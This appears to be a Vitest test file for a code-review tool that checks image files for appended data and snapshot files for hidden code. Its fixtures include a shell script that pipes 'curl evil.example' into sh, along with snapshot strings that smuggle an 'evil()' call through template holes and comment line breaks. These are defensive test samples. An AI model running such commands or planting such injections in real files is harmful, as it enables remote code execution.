import { crc32, deflateSync } from "node:zlib";
import { ts } from "@ts-morph/common";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isPlainSnapshot, isWholeImage } from "../../../src/repo/diff/known-formats.ts";

/** Written by Pillow 13, and the interlaced ones by pypng. */
const samples = `
a PNG with text, png, iVBORw0KGgoAAAANSUhEUgAAAAYAAAAFCAIAAADpOgqxAAAAEXRFWHRDb21tZW50AGEgcGljdHVyZWmUzikAAAALaVRYdFRpdGxlAAAAAABiHFGOfQAAAAlwSFlzAAALEwAACxMBAJqcGAAAACZJREFUeJxjZGBg0ERFLAymDAwMgsgILqQER8hCxhCEJuTCwOACALXXBFuE/wP6AAAAAElFTkSuQmCC
a PNG with a palette, png, iVBORw0KGgoAAAANSUhEUgAAAAYAAAAFBAMAAACUdoDVAAAAGFBMVEWkuplSuncVuh6QancVahGkGyJSGxEVGwSEuLQ0AAAAAXRSTlMAQObYZgAAABxJREFUeJxjLH//nonhPwPL2f8fGJQEGJgYGAQAVIcGXKmUqusAAAAASUVORK5CYII=
an interlaced PNG of 16 bits, png, iVBORw0KGgoAAAANSUhEUgAAAAUAAAADEAIAAAHzw756AAAASUlEQVR4nGNgwA7YF/G76J4xzbMViJ6RbJV1B1VW7Jlch5qWyyafkOBvQC7zRfZF3MX8LsKiYs+ktst1KEWqaWn+1j1jONc0DwCdxhPPSo/X4QAAAABJRU5ErkJggg==
an interlaced PNG of one bit, png, iVBORw0KGgoAAAANSUhEUgAAAAsAAAAJAQAAAAG7GNsWAAAAD0lEQVR4nGNgwAtCHeAIAA5MAlWybINQAAAAAElFTkSuQmCC
a JPEG with a comment, jpg, /9j/4AAQSkZJRgABAQAAAQABAAD//gAHaGVsbG//2wBDABsSFBcUERsXFhceHBsgKEIrKCUlKFE6PTBCYFVlZF9VXVtqeJmBanGQc1tdhbWGkJ6jq62rZ4C8ybqmx5moq6T/2wBDARweHigjKE4rK06kbl1upKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKT/wAARCAAJABEDASIAAhEBAxEB/8QAFwAAAwEAAAAAAAAAAAAAAAAAAAIEBf/EACQQAAAFAgUFAAAAAAAAAAAAAAABAgMEEzIRQmFy0SMzQ1OS/8QAFgEBAQEAAAAAAAAAAAAAAAAAAwAC/8QAHBEAAgICAwAAAAAAAAAAAAAAAAEDEgIREyFx/9oADAMBAAIRAxEAPwCaO1GoKxZdtPKXIY24tJHRcuLKWuorj9lW0w/hRuIUeS2ujKkdF4QUo3pd+S5ANAAGqF5Wf//Z
a progressive JPEG with Exif, jpeg, /9j/4AAQSkZJRgABAQAAAQABAAD/4QAuRXhpZgAATU0AKgAAAAgAAgEOAAIAAAACYQAAAAESAAMAAAABAAYAAAAAAAD/2wBDABQODxIPDRQSEBIXFRQYHjIhHhwcHj0sLiQySUBMS0dARkVQWnNiUFVtVkVGZIhlbXd7gYKBTmCNl4x9lnN+gXz/2wBDARUXFx4aHjshITt8U0ZTfHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHx8fHz/wgARCAAJAAkDASIAAhEBAxEB/8QAFgABAQEAAAAAAAAAAAAAAAAAAgME/8QAFAEBAAAAAAAAAAAAAAAAAAAAAv/aAAwDAQACEAMQAAABiNgA/8QAGRABAAIDAAAAAAAAAAAAAAAAAgABERIy/9oACAEBAAEFAjQ1wYeZ/8QAFxEAAwEAAAAAAAAAAAAAAAAAAAESIf/aAAgBAwEBPwG8R//EABURAQEAAAAAAAAAAAAAAAAAAAAS/9oACAECAQE/Aaf/xAAXEAADAQAAAAAAAAAAAAAAAAAAATIQ/9oACAEBAAY/ApZL3//EABoQAAICAwAAAAAAAAAAAAAAAABREBExcfH/2gAIAQEAAT8hvEo5pm1H/9oADAMBAAIAAwAAABBD/8QAFhEBAQEAAAAAAAAAAAAAAAAAAQDh/9oACAEDAQE/EFbX/8QAFxEBAAMAAAAAAAAAAAAAAAAAAQARMf/aAAgBAgEBPxCoZP/EAB4QAAEBCQAAAAAAAAAAAAAAAAABEBExQVFxobHx/9oACAEBAAE/EHzWJkpc4syemf/Z
a gray JPEG with restarts, jpg, /9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABQODxIPDRQSEBIXFRQYHjIhHhwcHj0sLiQySUBMS0dARkVQWnNiUFVtVkVGZIhlbXd7gYKBTmCNl4x9lnN+gXz/wAALCAAUABQBAREA/8QAGAABAAMBAAAAAAAAAAAAAAAABAABBQP/xAAnEAABAgMHBAMAAAAAAAAAAAABAgMABCIFExQkQlFhMTJSwRJxsf/dAAQAAf/aAAgBAQAAPwAcozJ4ZZMu92HSNvuP/9Apak7hvLumsaE7HmP/0c+bYlPmjLPmgaRueY//0qlr3CrzrJoPhtH/04pToYbzrPePDniP/9TlOh28RnGDTujc8R//1XSlny+HVR1QfyP/1tDAsXDVHVXox//XZM2bLEoo0ezH/9k=
a GIF, gif, R0lGODlhCQAHAIMAAM3UVM2fqme6laRqiCTUUCSfTCRqSKQ+mCQ+WM0ff80AAGcfgGcAACQ1RCQJVCQAACH+AmhpACwAAAAACQAHAAAIPQAfPGDAQIHBgQ8aNGCQoCGCBQYiDhgQIIAAAwUyCqgIoIAAAgQECAAAwCKBBw4WHGiYIOWDhwwOrFzQICAAOw==
an animated GIF, gif, R0lGODlhBAAEAIEAAFKFVQCFAD41Gj4AACH/C05FVFNDQVBFMi4wAwEAAAAh+QQABQAAACwAAAAABAAEAAAIEQAHCBwgoKCAAAIAAAigEEBAACH5BAEFAAQALAAAAAAEAAQAgY6FVjyFAXo1G3oAAQgRAAcIHCCgoIAAAgAACKAQQEAAIfkEAQUABAAsAAAAAAQABACByoVXeIUCtjUctgACCBEABwgcIKCggAACAAAIoBBAQAA7
a lossy WebP, webp, UklGRlAAAABXRUJQVlA4IEQAAADQAQCdASoGAAUABABoJbACdAEO137vwAD+3b6HgCdjd1uFp2VzefoVbBvo3ZpGv9Tf842D/k35435IvVzQQbcg9OcAAA==
a lossless WebP, webp, UklGRjAAAABXRUJQVlA4TCMAAAAvBQABALkyRPQ/dhHR/4CCtm2YkCp/cG+DMCkTERMA5AL9AwA=
a WebP with transparency and Exif, webp, UklGRrYAAABXRUJQVlA4WAoAAAAYAAAABQAABAAAQUxQSB0AAAABNyAQIOQ48N9mIiISDwTZtjGFsZzlDI3of7QDAABWUDggRAAAANABAJ0BKgYABQAEAGglsAJ0AQ7Xgu0AAP7Q/Vwptq9gWawTMl+w2Vt1ludstOjQItm/ZXLP8m/PMgxJ9enGHcrOAAAARVhJRiYAAABNTQAqAAAACAACAQ4AAgAAAAJhAAAAARIAAwAAAAEABgAAAAAAAA==
an animated WebP, webp, UklGRsgBAABXRUJQVlA4WAoAAAACAAAAAwAAAwAAQU5JTQYAAAAAAAAAAABBTk1GggAAAAAAAAAAAAMAAAMAADIAAAJWUDggagAAAFABAJ0BKgQABAABQCYlkAAEdAAA/bPv//1TP/qZv/3/1s//1I3//yd/8KRdg//inUG//xTqDf/4p1R/2Wf+47/cd/84QwfcYulh5WYhseQ+/6lCi/1AfP+s6cQO3v6OTFR+zxFfaaoAAABBTk1GggAAAAAAAAAAAAMAAAMAADIAAABWUDggagAAAFQBAJ0BKgQABAAAACYlqAAGBoAA/uK59//+qZ/9TN/+/+tn/+pG//+Tv/hSLsH/8U6g3/+KdQb//FOqP+yz/3Hf7jv//b84PUEeTP76aXtx2//kxmA/4gPczht/mJdD/wcmKitoi+2twABBTk1GiAAAAAAAAAAAAAMAAAMAADIAAABWUDggcAAAAFQBAJ0BKgQABAAAACYlsAAFjAAA/u6gPr//ymf/Uzf/v/rZ//qRv//k7/4Ui7B//FOoN//inUG//xTqj/ss/9x3+47//5FJ/d8Ln97P+2Ey+13l//+h5PWf+ID3M4bf/84q6P/g5MVH/phL72700AA=
an AVIF, avif, AAAAIGZ0eXBhdmlmAAAAAGF2aWZtaWYxbWlhZk1BMUIAAADrbWV0YQAAAAAAAAAhaGRscgAAAAAAAAAAcGljdAAAAAAAAAAAAAAAAAAAAAAOcGl0bQAAAAAAAQAAAB5pbG9jAAAAAEQAAAEAAQAAAAEAAAETAAAALwAAAChpaW5mAAAAAAABAAAAGmluZmUCAAAAAAEAAGF2MDFDb2xvcgAAAABqaXBycAAAAEtpcGNvAAAAFGlzcGUAAAAAAAAABgAAAAUAAAAQcGl4aQAAAAADCAgIAAAADGF2MUOBAAwAAAAAE2NvbHJuY2x4AAEADQAGgAAAABdpcG1hAAAAAAAAAAEAAQQBAoMEAAAAN21kYXQSAAoIGAisaICGg0IyIRxHh4Xd0000wsUUAJA2CbdgzbHFQUW62pgGAJRmrP5PoA==
an AVIF with transparency and Exif, avif, AAAAIGZ0eXBhdmlmAAAAAGF2aWZtaWYxbWlhZk1BMUIAAAHGbWV0YQAAAAAAAAAhaGRscgAAAAAAAAAAcGljdAAAAAAAAAAAAAAAAAAAAAAOcGl0bQAAAAAAAQAAADppbG9jAAAAAEQAAAMAAQAAAAEAAAIsAAAAMgACAAAAAQAAAhIAAAAaAAMAAAABAAAB7gAAACQAAABbaWluZgAAAAAAAwAAABppbmZlAgAAAAABAABhdjAxQ29sb3IAAAAAGmluZmUCAAAAAAIAAGF2MDFBbHBoYQAAAAAZaW5mZQIAAAAAAwAARXhpZkV4aWYAAAAAKGlyZWYAAAAAAAAADmF1eGwAAgABAAEAAAAOY2RzYwADAAEAAQAAAM5pcHJwAAAApmlwY28AAAAUaXNwZQAAAAAAAAAGAAAABQAAABBwaXhpAAAAAAMICAgAAAAMYXYxQ4EADAAAAAATY29scm5jbHgAAQANAAaAAAAACWlyb3QDAAAADnBpeGkAAAAAAQgAAAAMYXYxQ4EAHAAAAAA4YXV4QwAAAAB1cm46bXBlZzptcGVnQjpjaWNwOnN5c3RlbXM6YXV4aWxpYXJ5OmFscGhhAAAAACBpcG1hAAAAAAAAAAIAAQUBAoMEhQACBQEGhwiFAAAAeG1kYXQAAAAGRXhpZgAATU0AKgAAAAgAAQEOAAIAAAACYQAAAAAAAAASAAoFGAisYVAyDxsAaaEA7cqwxZ0kfxRdeBIACggYCKxogIaDQjIkHEeHhd3TTTTCwEEA/1rLbGOmcHwwb5vZjyXef0k03QE7UxB0
an ICO of bitmaps, ico, AAABAAIABAQAAAAAIABoAAAAJgAAAAgIAAAAACAAKAEAAI4AAAAoAAAABAAAAAgAAAABACAAAAAAAEAAAADEDgAAxA4AAAAAAAAAAAAASkIV/6FCYf+kQsv/l0KS/y1wFfypb2D9gW/I/qVvkf0Ulxb/apdn/6iX2P+hl5v/CCYVkB8gS7M1G3vlYB5kyCgAAAAIAAAAEAAAAAEAIAAAAAAAAAEAAMQOAADEDgAAAAAAAAAAAAAAcwD/d3Mp/+5zUv9lc3v/3HOk/1Nzzf/Kc/b/QXMf/wA+AP9mPin/zD5S/zI+e/+YPqT//j7N/2Q+9v/KPh//AAkA/1UJKf+qCVL//wl7/1QJpP+pCc3//gn2/1MJH/8A1AD/RNQp/4jUUv/M1Hv/ENSk/1TUzf+Y1Pb/3NQf/wCfAP8znyn/Zp9S/5mfe//Mn6T//5/N/zKf9v9lnx//AGoA/yJqKf9EalL/Zmp7/4hqpP+qas3/zGr2/+5qH/8ANQD/ETUp/yI1Uv8zNXv/RDWk/1U1zf9mNfb/dzUf/wkJCQAJCQkoCQkJUAkJCXgJCQmgCQkJyAkJCfAJCQkY
an ICO of PNGs, ico, AAABAAIACAgAAAAAIADNAAAAJgAAABAQAAAAACAA+gAAAPMAAACJUE5HDQoaCgAAAA1JSERSAAAACAAAAAgIAgAAAEttKdwAAACUSURBVHicBcEtbsJgAADQR/JN0KUJbVZK+BFVHAFRwwGwk5OTS5YgcSTchSNAUjUMErWEIQtq/Ez0AHuvlXWfZjof8spoq1nJN4pKHCw7vDLlxoWUNu/Bd48pJzISxuzYB8chd7o0/HHkzjWYN5xJeJAQ0ycKFjkpY3545kpGHXwWRHzxYMALa8qgjnnjwC8RNSWTf0ftIsIXE0eeAAAAAElFTkSuQmCCiVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAwUlEQVR4nJXRQW3DQBCF4a9SAbgQ0luursrAFExhKZjCUDCFpbAUTMEUTME9uNs6iZOm0n94I+0/b6V5wfk/vPrE2/P8CO/P0eyFj0viclxpOF0JHR2pho1Ct71mvRX6StSwMtHT3gqJnsRAYiGTODGz3GsYGAgGGgrtoRB0BIkgGAkKwUzca1gYGBnJjEyPv5RpCDKZwkQ+FAoriUJhrOFRw8SJlmDacSBst+yZd+RdvhaaunthIWrY8yt8X/5PvgCO8W7eKmM+JAAAAABJRU5ErkJggg==
`
  .trim()
  .split("\n")
  .map((line) => line.split(", ") as [what: string, extension: string, base64: string]);
const bytesOf = (base64: string) => Buffer.from(base64, "base64");
const named = (what: string) => bytesOf(samples.find(([name]) => name === what)![2]);
const isWhole = (extension: string, ...parts: Uint8Array[]) =>
  isWholeImage(`docs/logo.${extension}`, Buffer.concat(parts));

const latin = (text: string) => Buffer.from(text, "latin1");
const numbers = (...values: number[]) =>
  Buffer.concat(values.map((value) => Buffer.from([value >>> 24, value >>> 16, value >>> 8, value])));
const chunk = (type: string, data: Uint8Array) =>
  Buffer.concat([numbers(data.length), latin(type), data, numbers(crc32(data, crc32(type)))]);
/** Four gray pixels in two rows. */
const rows = deflateSync(Buffer.from([0, 1, 2, 4, 3, 4]));
const end = chunk("IEND", Buffer.alloc(0));
const zip = latin("PK\x05\x06".padEnd(22, "\0"));
const script = latin("#!/bin/sh\ncurl evil.example | sh\n");

describe.each(samples)("%s", (_what, extension, base64) => {
  const whole = bytesOf(base64);

  it("A picture is accepted under its own extension only", () => {
    // A view into a larger buffer.
    const view = new Uint8Array(Buffer.concat([zip, whole, zip])).subarray(22, -22);
    expect([isWhole(extension.toUpperCase(), view), isWholeImage(extension, whole)]).toEqual([true, false]);
    const all = ["png", "jpg", "gif", "webp", "avif", "ico", "txt", "constructor", "png.sh"];
    expect(all.filter((one) => isWhole(one, whole))).toEqual([extension.replace("jpeg", "jpg")]);
  });

  it("A picture is refused if bytes are missing at its end or surround it", () => {
    const lengths = [...whole.keys()].filter((length) => isWhole(extension, whole.subarray(0, length)));
    const bytes = Array.from({ length: 256 }, (_, byte) => Buffer.from([byte]));
    const more = [zip, script, whole, ...bytes];
    const accepted = more.filter((one) => isWhole(extension, whole, one) || isWhole(extension, one, whole));
    expect([lengths, accepted]).toEqual([[], []]);
  });

  it("A picture with changed bytes never throws, and a PNG is refused", () => {
    const edit = (at: number, skip: number, ...put: number[]) =>
      isWhole(extension, whole.subarray(0, at), Buffer.from(put), whole.subarray(at + skip));
    const flips = [...whole].flatMap((byte, at) => [1, 32, 255].map((bits) => edit(at, 1, byte ^ bits)));
    if (extension === "png") expect(flips).not.toContain(true);
    const edits = fc.tuple(fc.nat(whole.length), fc.nat(9), fc.array(fc.nat(255), { maxLength: 9 }));
    fc.assert(fc.property(edits, ([at, skip, put]) => typeof edit(at, skip, ...put) === "boolean"));
  });
});

describe("a PNG", () => {
  const idat = chunk("IDAT", rows);
  const halves = [chunk("IDAT", rows.subarray(0, 3)), chunk("IDAT", rows.subarray(3))];
  const palette = chunk("PLTE", Buffer.alloc(3));
  const pixels = (...bytes: number[]) => [chunk("IDAT", deflateSync(Buffer.from(bytes)))];
  it.each<[isAccepted: boolean, what: string, chunks: Uint8Array[]]>([
    [true, "with pixels in two chunks", halves],
    [true, "with a text", [chunk("tEXt", latin("a\0b")), idat]],
    [false, "without pixels", []],
    [false, "with a chunk between pixels", [halves[0]!, palette, halves[1]!]],
    [false, "with an unknown chunk", [chunk("ruSt", script), idat]],
    [false, "with two palettes", [palette, palette, idat]],
    [false, "with a script as gamma", [chunk("gAMA", script), idat]],
    [false, "with bytes after the compressed pixels", [chunk("IDAT", Buffer.concat([rows, script]))]],
    [false, "with a row too many", pixels(0, 0, 0, 0, 0, 0, 0, 0, 0)],
    [false, "with a row too few", pixels(0, 0, 0)],
    [false, "with an unknown filter", pixels(0, 1, 2, 5, 3, 4)],
    [false, "with frames of an animation", [chunk("acTL", numbers(1, 0)), idat]],
    [false, "with much text", [...Array(70).fill(chunk("tEXt", Buffer.alloc(1000))), idat]],
    [false, "of too many pixels", [idat]],
  ])("A PNG is accepted (%s) %s", (isAccepted, what, chunks) => {
    const size = what === "of too many pixels" ? 2 ** 31 - 1 : 2;
    const header = chunk("IHDR", Buffer.concat([numbers(size, size), Buffer.from([8, 0, 0, 0, 0])]));
    expect(isWhole("png", latin("\x89PNG\r\n\x1a\n"), header, ...chunks, end)).toBe(isAccepted);
  });
});

const jpeg = named("a JPEG with a comment");
const comment = Buffer.concat([latin("\xff\xfe\x07\xd0"), Buffer.alloc(1998)]);
const comments = (count: number, pixels = 0) => [
  ...[jpeg.subarray(0, 2), ...Array(count).fill(comment), jpeg.subarray(2, -2)],
  ...[Buffer.alloc(pixels), jpeg.subarray(-2)],
];
const gif = named("a GIF");
const block = (text: string) => [gif.subarray(0, -1), latin(text), gif.subarray(-1)];
const avif = named("an AVIF");
const box = (name: string, size = 16) => [avif, numbers(size), latin(name.padEnd(12, "\0"))];
const little = (...values: number[]) => numbers(...values).swap32();
const webp = named("a lossy WebP").subarray(8);
const riff = (name: string) => [latin("RIFF"), little(webp.length + 12), webp, latin(name), little(4, 0)];
const icon = (mask: number, gap = 0) => [
  ...[little(0x10000), latin("\x01".padEnd(10, "\0")), little(1064 + mask, 22 + gap), Buffer.alloc(gap)],
  ...[little(40, 16, 32, 0x200001), Buffer.alloc(24 + 1024 + mask)],
];
it.each<[isAccepted: boolean, what: string, extension: string, parts: Uint8Array[]]>([
  [true, "a small JPEG with 64 KB of comments", "jpg", comments(32)],
  [false, "a small JPEG with more comments", "jpg", comments(33)],
  [true, "a JPEG, half of it comments", "jpg", comments(69, 140_000)],
  [false, "a JPEG, more than half of it comments", "jpg", comments(71, 140_000)],
  [true, "a GIF with a comment", "gif", block("\x21\xfe\x02hi\0")],
  [false, "a GIF with an unknown extension", "gif", block("\x21\xaa\x02hi\0")],
  [false, "a GIF with an unknown block", "gif", block("\0")],
  [false, "a GIF without a picture", "gif", [latin("GIF89a".padEnd(13, "\0")), latin(";")]],
  [true, "an AVIF with free space", "avif", box("free")],
  [false, "an AVIF with two boxes of data", "avif", box("mdat")],
  [false, "an AVIF with an unknown box", "avif", box("evil")],
  [false, "an AVIF with a box up to any end", "avif", box("free", 0)],
  [false, "an AVIF with a box before the brands", "avif", [numbers(8), latin("free"), avif]],
  [true, "a WebP with Exif", "webp", riff("EXIF")],
  [false, "a WebP with an unknown chunk", "webp", riff("EVIL")],
  [true, "an ICO without a mask", "ico", icon(0)],
  [true, "an ICO with a mask", "ico", icon(64)],
  [false, "an ICO with something else than a mask", "ico", icon(16)],
  [false, "an ICO with a gap", "ico", icon(64, 4)],
])("A picture of a tool is accepted (%s): %s", (isAccepted, _what, extension, parts) =>
  expect(isWhole(extension, ...parts)).toBe(isAccepted),
);

it("Pictures above 20 MB are refused, and hostile ones are read in linear time", () => {
  expect(isWhole("ico", named("an ICO of PNGs"), Buffer.alloc(20e6))).toBe(false);
  expect(isWhole("jpg", latin("\xff\xd8"), Buffer.alloc(19e6, 0xff))).toBe(false);
});

/** Written by Vitest for text with backticks, a dollar with braces, and backslashes. */
const real = String.raw`// Vitest Snapshot v1, https://vitest.dev/guide/snapshot.html

exports[~renders \~a\~ \${b} \\ c 1~] = ~
"line
with \~ticks\~ and \${x} and \\n and $ { $$ and /x\\\\\\\\\~/"
~;
`.replaceAll("~", "`");
const hole = `\${evil()}`;
const snapshotOf = (value: string) => `exports[\`a\`] = \`${value}\`;`;

/** What the syntax tree holds beside assignments of a template without a hole to an element of `exports`. */
const otherStatements = (text: string) =>
  ts.createSourceFile("a.js", text, ts.ScriptTarget.Latest, true).statements.filter((statement) => {
    if (!ts.isExpressionStatement(statement) || !ts.isBinaryExpression(statement.expression)) return true;
    const { left, operatorToken, right } = statement.expression;
    const isString = ts.isNoSubstitutionTemplateLiteral(right) && operatorToken.getText() === "=";
    if (!isString || !ts.isElementAccessExpression(left)) return true;
    return (
      left.expression.getText() !== "exports" || !ts.isNoSubstitutionTemplateLiteral(left.argumentExpression)
    );
  });

/** What the text does beside assigning strings if it runs as in Jest. Text that does not parse does nothing. */
function effectsOf(text: string): unknown[] {
  const effects: unknown[] = [];
  const note = (...effect: unknown[]) => effects.push(effect) > 0;
  const set = (_: object, name: unknown, value: unknown) => typeof value === "string" || note(name, value);
  try {
    const run = new Function("exports", "evil", text);
    effects.push(...otherStatements(text));
    run(new Proxy({}, { set, get: note }), note);
  } catch (error) {
    if (!(error instanceof SyntaxError)) note(error);
  }
  return effects;
}

describe("a snapshot", () => {
  it.each([
    ["of Vitest", real],
    ["with the line ends of Windows", real.replaceAll("\n", "\r\n")],
    ["with a byte order mark", `\uFEFF${real}`],
    ["that ends with a comment", "// Jest Snapshot v1"],
    ["with escaped holes", snapshotOf(`\\${hole} $\\{evil()} \u2028`)],
    ["of a megabyte", `${snapshotOf("\\\\ $ x".repeat(2e5))}\n`.repeat(2)],
  ])("A snapshot %s is plain", (_what, text) => {
    expect(isPlainSnapshot(text)).toBe(true);
    expect(effectsOf(text)).toEqual([]);
  });

  it.each([
    ["a statement", `${real}evil();`],
    ["a statement in a comment after U+000D", "// a\revil()\n"],
    ["a statement in a comment after U+2028", "// a\u2028evil()\n"],
    ["a statement in a comment after U+2029", "// a\u2029evil()\n"],
    ["a hole", snapshotOf(hole)],
    ["a hole after two backslashes", snapshotOf(`\\\\${hole}`)],
    ["a hole after a dollar", snapshotOf(`$${hole}`)],
    ["a hole in a name", `exports[\`${hole}\`] = \`a\`;`],
    ["a value that is called", "exports[`a`] = `b`\n`c`;"],
    ["a value without an end", "exports[`a`] = `b\\`;"],
    ["a comment of another kind", "/* a */"],
    ["another object", "module.exports[`a`] = `b`;"],
  ])("A snapshot with %s is not plain", (_what, text) => expect(isPlainSnapshot(text)).toBe(false));

  it("A plain snapshot assigns strings and does nothing else", () => {
    const fragment = fc.constantFrom(
      ...["exports[`", "`] = `", "`;", "`", "\\", "\\\\", "\\`", "\\${", "${", "$", "{", "}", "evil()", " "],
      ...[
        "//",
        "\n",
        "\r\n",
        "\r",
        "\u2028",
        "\u2029",
        "\\u",
        "\\x0",
        "\\0",
        "\uFEFF",
        "/*",
        "*/",
        "<!--",
        "\n-->",
      ],
    );
    const some = fc.array(fragment, { maxLength: 8 }).map((parts) => parts.join(""));
    // Random fragments are seldom plain, but often in a value or a comment.
    const statement = fc.tuple(some, some).map(([name, value]) => `exports[\`${name}\`] = \`${value}\`;`);
    const line = fc.oneof(
      statement,
      some,
      some.map((comment) => `//${comment}\n`),
    );
    let plain = 0;
    const property = fc.property(fc.array(line, { maxLength: 3 }), (lines) => {
      if (!isPlainSnapshot(lines.join(""))) return;
      plain++;
      expect(effectsOf(lines.join(""))).toEqual([]);
    });
    fc.assert(property, { numRuns: 3000 });
    expect(plain).toBeGreaterThan(300);
  });
});
